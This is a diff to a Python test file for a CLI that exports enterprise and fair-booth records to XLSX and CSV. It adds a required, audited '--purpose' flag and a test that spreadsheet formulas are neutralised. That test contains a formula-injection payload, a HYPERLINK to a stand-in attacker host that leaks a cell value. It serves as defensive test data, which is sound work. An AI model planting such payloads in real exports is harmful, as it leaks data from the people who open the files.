@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import asyncio
+import csv
 from pathlib import Path
 
 import openpyxl
@@ -34,7 +35,18 @@ async def test_export_enterprises_of_one_ward_as_xlsx(
     await add_enterprise(app, "p3", "Lò gốm Đức Ánh", phone="+84903333444")
     target = tmp_path / "bat-trang.xlsx"
     code, out, _ = await _run(
-        ["export", "enterprises", "--ward", "bat trang", "--status", "approved", "-o", str(target)],
+        [
+            "export",
+            "enterprises",
+            "--ward",
+            "bat trang",
+            "--status",
+            "approved",
+            "--purpose",
+            "contact",
+            "-o",
+            str(target),
+        ],
         capsys,
     )
     assert code == 0 and "1 rows" in out
@@ -47,6 +59,7 @@ async def test_export_enterprises_of_one_ward_as_xlsx(
     [entry] = await audit_entries(app)
     assert (entry.actor, entry.action, entry.target) == ("cli", "export.enterprises", str(target))
     assert entry.after["ward"] == "00577" and entry.after["rows"] == 1
+    assert entry.after["purpose"] == "contact"
 
 
 async def test_export_booths_of_a_fair_as_english_csv(
@@ -58,9 +71,8 @@ async def test_export_booths_of_a_fair_as_english_csv(
     async with svc.db.transaction():
         await svc.booths.apply(fair.id, e.id, e.account_id, 2, "Bình hút lộc")
     target = tmp_path / "booths.csv"
-    code, _, _ = await _run(
-        ["export", "booths", "--fair", "test-fair", "--lang", "en", "-o", str(target)], capsys
-    )
+    argv = ["export", "booths", "--fair", "test-fair", "--lang", "en", "--purpose", "hội chợ"]
+    code, _, _ = await _run([*argv, "-o", str(target)], capsys)
     assert code == 0
     content = target.read_bytes()
     assert content.startswith(b"\xef\xbb\xbf")
@@ -77,11 +89,50 @@ async def test_export_booths_of_a_fair_as_english_csv(
         (["--fair", "no-such-fair"], "--fair 'no-such-fair'"),
         (["--ward", "Atlantis"], "--ward 'Atlantis'"),
     ],
+    ids=["sector", "status", "fair", "ward"],
 )
 async def test_bad_filters_are_one_line(
     app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], problem: str
 ) -> None:
     target = tmp_path / "x.xlsx"
-    code, _, err = await _run(["export", "enterprises", *args, "-o", str(target)], capsys)
+    code, _, err = await _run(
+        ["export", "enterprises", *args, "--purpose", "report", "-o", str(target)], capsys
+    )
     assert code == 2 and problem in err and len(err.strip().splitlines()) == 1
     assert not target.exists()
+
+
+async def test_the_purpose_is_required_and_said(
+    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    target = tmp_path / "x.xlsx"
+    with pytest.raises(SystemExit):
+        await _run(["export", "enterprises", "-o", str(target)], capsys)
+    code, _, err = await _run(
+        ["export", "enterprises", "--purpose", " x ", "-o", str(target)], capsys
+    )
+    assert code == 2 and "--purpose" in err and not target.exists()
+
+
+@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
+async def test_a_registrant_s_formula_is_written_as_text(
+    app: App, tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
+) -> None:
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    await add_enterprise(app, "p1", name, contact="\t=1+1")
+    target = tmp_path / f"all.{suffix}"
+    code, _, _ = await _run(
+        ["export", "enterprises", "--purpose", "report", "-o", str(target)], capsys
+    )
+    assert code == 0
+    if suffix == "xlsx":
+        ws = openpyxl.load_workbook(target).active
+        assert ws is not None
+        cells = [cell for row in ws.iter_rows() for cell in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        values = [c.value for c in cells]
+    else:
+        with target.open(encoding="utf-8-sig", newline="") as f:
+            values = [v for row in csv.reader(f) for v in row]
+    assert "'" + name in values and "'\t=1+1" in values
+    assert not [v for v in values if str(v).startswith(("=", "+", "-", "@", "\t", "\r"))]
